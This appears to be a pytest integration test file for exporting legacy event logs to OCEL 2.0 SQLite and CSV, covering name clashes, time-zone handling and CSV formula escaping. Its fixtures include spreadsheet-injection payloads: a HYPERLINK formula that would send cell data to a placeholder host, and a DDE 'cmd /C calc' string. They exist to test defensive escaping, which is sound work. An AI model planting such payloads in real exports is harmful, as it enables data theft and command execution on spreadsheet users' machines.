"""Exports of names and values a legacy log may hold that the target format reads otherwise.

OCEL 2.0 SQLite: SQLite takes table and column names differing only in ASCII case for one
name, and the layout has tables and columns of its own (`event_object`, `ocel_id`...); a
date without an offset is written as the JSON export writes it, whatever zone the exporting
machine is in. CSV: a cell a spreadsheet program would run as a formula is written as text.
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import time
import warnings
from pathlib import Path
from typing import Any

import pytest
import typer
from typer.testing import CliRunner

from gateways.eventstore.store import RecordedEvent
from gateways.interchange import cli
from gateways.interchange.csv_export import write_csv
from gateways.interchange.export import ExportFormat, export_database
from gateways.interchange.selection import Selection, Trace
from gateways.interchange.xes_import import import_xes
from tests.integration.test_interchange_fidelity import export_to
from tests.integration.test_interchange_realistic import HEAD, attribute, event, trace

pm4py = pytest.importorskip("pm4py")

pytestmark = pytest.mark.integration


def _import(make_container: Any, tmp_path: Path, name: str, body: str) -> Any:
    source = tmp_path / f"{name}.xes"
    source.write_text(HEAD + body + "</log>\n", encoding="utf-8")
    container = make_container(f"sqlite:///{tmp_path / f'{name}.sqlite'}")
    import_xes(source, cli.bulk_service(container), workers=0)
    return container


def _tables(database: Path) -> dict[str, list[str]]:
    conn = sqlite3.connect(database)
    try:
        names = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        return {n: [c[1] for c in conn.execute(f'PRAGMA table_info("{n}")')] for n in names}
    finally:
        conn.close()


# Activities SQLite would name one table, one named like the layout's relation table.
ACTIVITIES = ["Send Fine", "send fine", "SEND-FINE", "Object", "object_object", "Map Type"]
# Keys of one event type SQLite would name one column, and keys named like the layout's.
KEYS = {"Amount": "1", "amount": "2", "amount (2)": "3", "ocel_id": "4", "OCEL_TIME": "5"}


def test_ocel_sqlite_names_every_table_and_column_apart_and_pm4py_reads_them_all(
    make_container: Any, tmp_path: Path, interchange_cli: typer.Typer
) -> None:
    extra = [attribute("string", key, value) for key, value in KEYS.items()]
    steps = [
        event(name, f"2024-03-0{i + 1}T09:00:00+07:00", *(extra if name == "Send Fine" else []))
        for i, name in enumerate(ACTIVITIES)
    ]
    container = _import(make_container, tmp_path, "names", trace("c1", *steps))
    database = tmp_path / "names.ocel.sqlite"
    summary = export_database(database, container.store, container.catalogue, Selection())
    assert (summary.dossiers, summary.events) == (1, len(ACTIVITIES))

    tables = _tables(database)
    folded = [t.lower() for t in tables]
    assert len(folded) == len(set(folded))
    conn = sqlite3.connect(database)
    mapped = dict(conn.execute("SELECT ocel_type, ocel_type_map FROM event_map_type").fetchall())
    conn.close()
    assert set(mapped) == set(ACTIVITIES)
    assert mapped["Send Fine"] == "SendFine" and mapped["Object"] == "Object2"
    assert tables["event_object"] == ["ocel_event_id", "ocel_object_id", "ocel_qualifier"]
    # Names kept as written first, then the clashing ones numbered in their order.
    assert tables["event_SendFine"] == [
        "ocel_id",
        "ocel_time",
        "org:group",
        "Amount",
        "amount (3)",
        "amount (2)",
        "ocel_id (2)",
        "OCEL_TIME (2)",
    ]

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        ocel = pm4py.read_ocel2_sqlite(str(database))
    assert sorted(ocel.events["ocel:activity"]) == sorted(ACTIVITIES)
    fine = ocel.events[ocel.events["ocel:activity"] == "Send Fine"].iloc[0]
    columns = {"Amount": "Amount", "amount": "amount (3)", "amount (2)": "amount (2)"}
    columns |= {"ocel_id": "ocel_id (2)", "OCEL_TIME": "OCEL_TIME (2)"}
    assert {key: fine[columns[key]] for key in KEYS} == KEYS
    log = json.loads(export_to(container, ExportFormat.OCEL, tmp_path / "names.json").read_text("utf-8"))
    assert len(ocel.relations) == sum(len(e["relationships"]) for e in log["events"])

    # The command line writes the file and exits 0 (it exited 1 with no file).
    source = tmp_path / "names.xes"
    runner = CliRunner()
    assert runner.invoke(interchange_cli, ["import-xes", str(source)]).exit_code == 0
    out = tmp_path / "cli.sqlite"
    result = runner.invoke(interchange_cli, ["export", "ocel-sqlite", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert set(_tables(out)) == set(tables)


ZONES = ("UTC", "Asia/Ho_Chi_Minh", "America/New_York")
# A date attribute without an offset, one with an offset, one that UTC cannot hold.
DUES = {"A": "2020-01-05T00:00:00", "B": "2020-01-05T00:00:00+07:00", "C": "0001-01-01T00:00:00+07:00"}


def test_ocel_sqlite_writes_a_date_without_offset_as_the_json_export_whatever_the_zone(
    make_container: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    steps = [
        event(name, f"2020-01-01T1{i}:00:00Z", attribute("date", "due", due))
        for i, (name, due) in enumerate(DUES.items())
    ]
    container = _import(make_container, tmp_path, "dates", trace("c1", *steps))
    log = json.loads(export_to(container, ExportFormat.OCEL, tmp_path / "dates.json").read_text("utf-8"))
    written = {e["type"]: a["value"] for e in log["events"] for a in e["attributes"] if a["name"] == "due"}
    assert written == DUES  # the JSON export writes each as the log wrote it

    seen: dict[str, dict[str, str]] = {}
    try:
        for zone in ZONES:
            monkeypatch.setenv("TZ", zone)
            time.tzset()
            database = tmp_path / f"dates-{zone.replace('/', '-')}.sqlite"
            export_database(database, container.store, container.catalogue, Selection())
            conn = sqlite3.connect(database)
            seen[zone] = {t: conn.execute(f'SELECT due FROM "event_{t}"').fetchone()[0] for t in DUES}
            conn.close()
    finally:
        monkeypatch.undo()
        time.tzset()
    expected = {
        "A": "2020-01-05T00:00:00",  # no instant: as written, as the JSON export
        "B": "2020-01-04T17:00:00+00:00",  # an instant: in UTC, as every time of this form
        "C": "0001-01-01T00:00:00+07:00",  # before year 1 in UTC: as written
    }
    assert seen == dict.fromkeys(ZONES, expected)


FORMULAS = {
    '=HYPERLINK("http://example.invalid/?x="&A2,"open")': "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1": "-2+3",
    "@A1": "\tTab",
    "-3.5": "\rReturn",
    "Register": "Officer - desk 2",
}


def _text(cell: str) -> str:
    return cell if cell[0].isalpha() else "'" + cell


def _csv(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def test_csv_writes_a_legacy_activity_or_resource_a_spreadsheet_would_run_as_text(
    make_container: Any, tmp_path: Path
) -> None:
    steps = [
        event(name, f"2024-03-0{i + 1}T09:00:00+07:00", attribute("string", "org:resource", who))
        for i, (name, who) in enumerate(FORMULAS.items())
    ]
    container = _import(make_container, tmp_path, "formulas", trace("=c1", *steps))
    path = export_to(container, ExportFormat.CSV, tmp_path / "formulas.csv")
    rows = _csv(path.read_bytes().decode("utf-8"))  # as written: a CR in a cell stays a CR
    assert [(r["activity"], r["actor_user"]) for r in rows] == [
        (_text(name), _text(who)) for name, who in FORMULAS.items()
    ]


def _recorded(seq: int, kind: str, payload: dict[str, Any]) -> RecordedEvent:
    envelope = {
        "event_id": f"e{seq}",
        "dossier_id": "d1",
        "seq": seq,
        "type": kind,
        "occurred_at": f"2026-03-0{seq}T09:00:00+07:00",
        "recorded_at": f"2026-03-0{seq}T09:00:01+07:00",
        "agency_code": "000.00.21.H29",
        "actor": {"user": "can.bo", "role": "officer"},
        "payload": payload,
        "hash": f"h{seq}",
    }
    return RecordedEvent(envelope, b"")


def test_csv_writes_an_officers_note_as_text_and_seq_as_a_number() -> None:
    handoff = {"from_agency_code": "000.00.21.H29", "to_agency_code": "000.00.22.H29"}
    records = [
        _recorded(1, "HandedOff", handoff | {"note": "=1+1"}),
        _recorded(2, "HandedOff", handoff | {"note": "@cmd"}),
        _recorded(3, "HandedOff", handoff | {"note": "Bổ sung - thiếu giấy tờ"}),
        _recorded(4, "HandedOff", handoff | {"note": "-3.5"}),
    ]
    trace_ = Trace("d1", "R-1", "P-1", "online", False, records, records)
    out = io.StringIO(newline="")
    assert write_csv(out, [trace_]) == (1, 4)
    rows = _csv(out.getvalue())
    # A text column's number too: the note is text, and a spreadsheet shows it as such.
    assert [r["note"] for r in rows] == ["'=1+1", "'@cmd", "Bổ sung - thiếu giấy tờ", "'-3.5"]
    # The numeric column is written as the number (no quote, no prefix).
    assert [line.split(",")[2] for line in out.getvalue().splitlines()[1:]] == ["1", "2", "3", "4"]
